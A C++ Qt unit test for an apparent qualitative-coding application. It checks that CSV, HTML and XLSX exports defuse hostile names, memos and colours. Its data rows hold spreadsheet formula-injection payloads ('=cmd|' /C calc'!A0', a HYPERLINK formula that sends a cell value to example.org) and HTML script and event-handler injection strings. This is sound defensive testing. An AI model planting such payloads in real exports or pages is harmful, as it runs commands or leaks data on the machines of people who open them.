// SPDX-FileCopyrightText: 2026 The Crosscase authors
// SPDX-License-Identifier: GPL-3.0-or-later

// Whatever people, or a file from somebody else, put into names, memos, texts and colours is text in everything that is
// written: no formula for a spreadsheet, no markup for a browser.

#include "analysis/compute.h"
#include "coding/cases.h"
#include "coding/codebook.h"
#include "coding/codings.h"
#include "coding/memos.h"
#include "exchange/folderexport.h"
#include "exchange/projects/codebookwriter.h"
#include "exchange/readers/tableparsers.h"
#include "exchange/reports/codebookreport.h"
#include "exchange/reports/memosreport.h"
#include "exchange/reports/passagesreport.h"
#include "exchange/reports/searchreport.h"
#include "exchange/tables/tableexport.h"
#include "support/temporaryproject.h"
#include "support/verifyresult.h"
#include "support/zipparts.h"

#include <QDir>
#include <QDirIterator>
#include <QRegularExpression>
#include <QTest>

using namespace Crosscase;
using namespace Qt::StringLiterals;

class TestHostileNames : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init() { QTest::failOnWarning(); }
    void nothingIsCarriedOut_data();
    void nothingIsCarriedOut();

private:
    void checkCsv(const QByteArray &csv, const QString &where);
    void checkHtml(const QByteArray &html, const QString &where);
    void checkXlsx(const QByteArray &xlsx);
};

void TestHostileNames::checkCsv(const QByteArray &csv, const QString &where)
{
    const Result<RawTable> table = parseTable(csv, u"UTF-8"_s, {});
    VERIFY_RESULT(table);
    for (const QStringList &row : table->rows) {
        for (const QString &cell : row) {
            bool isNumber = false;
            cell.toDouble(&isNumber);
            const bool formula = !cell.isEmpty() && u"=+-@\t\r\n"_s.contains(cell.front());
            QVERIFY2(!formula || isNumber || cell == "-"_L1, qPrintable(where + u": "_s + cell));
        }
    }
}

/// Every tag is one of ours, and none of them fetches or does anything.
void TestHostileNames::checkHtml(const QByteArray &html, const QString &where)
{
    static const QRegularExpression tag(
        uR"x(<(/?[a-zA-Z][a-zA-Z0-9]*)((?:\s+[-a-zA-Z]+(?:="[^"]*")?)*)\s*/?>|<!DOCTYPE html>|<)x"_s);
    static const QRegularExpression attribute(uR"x(([-a-zA-Z]+)(?:="([^"]*)")?)x"_s);
    static const QStringList tags{
        u"html"_s,       u"head"_s,    u"meta"_s,  u"title"_s, u"style"_s,    u"body"_s,
        u"h1"_s,         u"h2"_s,      u"h3"_s,    u"p"_s,     u"span"_s,     u"mark"_s,
        u"sup"_s,        u"b"_s,       u"table"_s, u"tr"_s,    u"td"_s,       u"th"_s,
        u"thead"_s,      u"tbody"_s,   u"tfoot"_s, u"ol"_s,    u"ul"_s,       u"li"_s,
        u"blockquote"_s, u"caption"_s, u"a"_s,     u"br"_s,    u"colgroup"_s, u"col"_s,
        u"div"_s,        u"section"_s, u"small"_s, u"h4"_s,    u"em"_s,       u"i"_s};
    const QString page = QString::fromUtf8(html);
    for (const QRegularExpressionMatch &found : tag.globalMatch(page)) {
        if (found.captured(0).startsWith("<!"_L1))
            continue;
        QString name = found.captured(1);
        name.remove(u'/');
        QVERIFY2(tags.contains(name), qPrintable(where + u": "_s + page.mid(found.capturedStart(), 80)));
        for (const QRegularExpressionMatch &one : attribute.globalMatch(found.captured(2))) {
            QVERIFY2(!one.captured(1).startsWith("on"_L1) && one.captured(1) != "src"_L1, qPrintable(where));
            QVERIFY2(one.captured(1) != "href"_L1 || one.captured(2).startsWith(u'#'), qPrintable(where));
            QVERIFY2(one.captured(1) != "style"_L1 || !one.captured(2).contains("url("_L1),
                     qPrintable(where));
        }
    }
}

/// Cells are strings, or formulas that do nothing but join strings; and strings stay strings when somebody edits them.
void TestHostileNames::checkXlsx(const QByteArray &xlsx)
{
    const QMap<QString, QByteArray> parts = zipParts(xlsx);
    int sheets = 0;
    for (const auto &[name, bytes] : parts.asKeyValueRange()) {
        QVERIFY2(!bytes.contains("TargetMode=\"External\""), qPrintable(name));
        if (!name.startsWith("xl/worksheets/sheet"_L1))
            continue;
        ++sheets;
        static const QRegularExpression formula(u"<f\\b[^>]*>([^<]*)</f>"_s);
        static const QRegularExpression harmless(
            uR"x(^(?:"(?:[^"]|"")*"|CHAR\(10\))(?:&(?:"(?:[^"]|"")*"|CHAR\(10\)))*$)x"_s);
        for (const QRegularExpressionMatch &found : formula.globalMatch(QString::fromUtf8(bytes))) {
            QString text = found.captured(1);
            text.replace("&lt;"_L1, "<"_L1).replace("&gt;"_L1, ">"_L1).replace("&quot;"_L1, "\""_L1);
            text.replace("&amp;"_L1, "&"_L1);
            QVERIFY2(harmless.match(text).hasMatch(), qPrintable(text));
        }
    }
    QVERIFY(sheets >= 2);
}

void TestHostileNames::nothingIsCarriedOut_data()
{
    QTest::addColumn<QString>("evil");
    QTest::addColumn<bool>("formula");
    QTest::newRow("formula") << u"=cmd|' /C calc'!A0"_s << true;
    QTest::newRow("plus") << u"+cmd|' /C calc'!A0"_s << true;
    QTest::newRow("minus") << u"-2+3+cmd|' /C calc'!A0"_s << true;
    QTest::newRow("at") << u"@SUM(1+1)*cmd|' /C calc'!A0"_s << true;
    QTest::newRow("link") << u"=HYPERLINK(\"http://example.org/?\"&A1,\"more\")"_s << true;
    QTest::newRow("script") << u"\"><script>alert(1)</script><img src=x onerror=alert(2)>"_s << false;
    QTest::newRow("attribute") << u"' onmouseover='alert(1)' <b onclick=\"alert(2)\">"_s << false;
    QTest::newRow("placeholders") << u"%1 %2 %L1 %n <iframe src=%3>"_s << false;
}

void TestHostileNames::nothingIsCarriedOut()
{
    QFETCH(const QString, evil);
    QFETCH(const bool, formula);
    TemporaryProject here;
    Index &index = here.index();
    here.project().setCoderName(evil);
    Codebook codebook(index);
    const Result<Id> code = codebook.add(
        {.name = evil, .definition = evil, .include = evil, .exclude = evil, .example = evil});
    VERIFY_RESULT(code);
    // Nothing here lets a person write such a colour, but a file from somebody else may hold it.
    CodeRow row = *index.codes().find(*code);
    row.color = u"red\"><script>alert(3)</script>"_s;
    VERIFY_RESULT(here.project().apply(u"Colour"_s, [&](Writer &writer) { return writer.update(row); }));
    VERIFY_RESULT(codebook.setAliases(*code, {evil + u" too"_s}));
    const Id document = here.addDocument(evil, evil + u": "_s + evil + u"\nB: "_s + evil + u"\n"_s);
    Cases cases(index);
    const Result<Id> one = cases.add({.name = evil, .kind = evil, .description = evil});
    VERIFY_RESULT(one);
    VERIFY_RESULT(cases.link({.caseId = *one, .document = document}));
    const Result<Id> attribute = cases.addAttribute(evil, u"text"_s);
    VERIFY_RESULT(attribute);
    VERIFY_RESULT(cases.setValue(*one, *attribute, evil));
    CellNoteRow note;
    note.caseId = *one;
    note.code = *code;
    note.summary = note.mark = note.reason = evil;
    VERIFY_RESULT(cases.setCellNote(note));
    const Result<Id> coding = Codings(index).add(
        {.document = document, .code = *code, .span = {0, evil.size()}, .memo = evil});
    VERIFY_RESULT(coding);
    Memos memos(index);
    VERIFY_RESULT(memos.add(evil, evil, {{.kind = MemoSubject::Kind::Code, .id = *code}}));

    const TextSource texts = textsOf(here.project());
    for (const TableSpec::Measure cell :
         {TableSpec::Measure::Stance, TableSpec::Measure::AllQuotes, TableSpec::Measure::Summary}) {
        auto spec = TableSpec::fromBytes(R"({"rows": {"kind": "codes"}, "columns": {"kind": "cases"}})");
        VERIFY_RESULT(spec);
        spec->cell = cell;
        spec->name = evil;
        const auto table = compute(*spec, index, texts);
        VERIFY_RESULT(table);
        for (const TableWriter *writer : tableWriters()) {
            const auto bytes = exportTable(*table, *writer, {.quoteNotes = writer->id() == "html"_L1}, index,
                                           texts);
            VERIFY_RESULT(bytes);
            if (writer->suffix() == "csv"_L1)
                checkCsv(*bytes, writer->id());
            else if (writer->id() == "html"_L1)
                checkHtml(*bytes, writer->id());
            else if (writer->id() == "xlsx"_L1) {
                checkXlsx(*bytes);
                QCOMPARE(zipParts(*bytes).value(u"xl/styles.xml"_s).contains("quotePrefix=\"1\""), formula);
            }
            if (QTest::currentTestFailed())
                return;
        }
    }

    const Result<Report> passages = passagesReport({*coding}, PassageGroup::Code, index, texts);
    VERIFY_RESULT(passages);
    const Result<QList<MemoEntry>> entries = memos.all();
    VERIFY_RESULT(entries);
    SearchQuery query;
    query.text = u"cmd"_s;
    const Result<QList<SearchHit>> hits = search(query, index);
    VERIFY_RESULT(hits);
    for (const Report &report : {codebookReport(index), *passages, memosReport(*entries, index),
                                 searchReport(*hits, query, index)}) {
        const Result<QByteArray> html = writeReport(report, ReportFormat::Html);
        VERIFY_RESULT(html);
        checkHtml(*html, report.title);
        if (report.columns.isEmpty())
            continue;
        const Result<QByteArray> csv = writeReport(report, ReportFormat::Csv);
        VERIFY_RESULT(csv);
        checkCsv(*csv, report.title);
        if (QTest::currentTestFailed())
            return;
    }
    checkCsv(codebookCsv(index), u"codebook"_s);

    const QString folder = here.filePath(u"everything"_s);
    VERIFY_RESULT(exportFolder(index, folder));
    int seen = 0;
    QDirIterator files(folder, QDir::Files, QDirIterator::Subdirectories);
    while (files.hasNext()) {
        QFile file(files.next());
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QString name = QDir(folder).relativeFilePath(file.fileName());
        if (name.endsWith(".csv"_L1))
            checkCsv(file.readAll(), name);
        else if (name.endsWith(".html"_L1))
            checkHtml(file.readAll(), name);
        else
            continue;
        ++seen;
        if (QTest::currentTestFailed())
            return;
    }
    QVERIFY(seen >= 7);
}

QTEST_GUILESS_MAIN(TestHostileNames)
#include "test_hostilenames.moc"
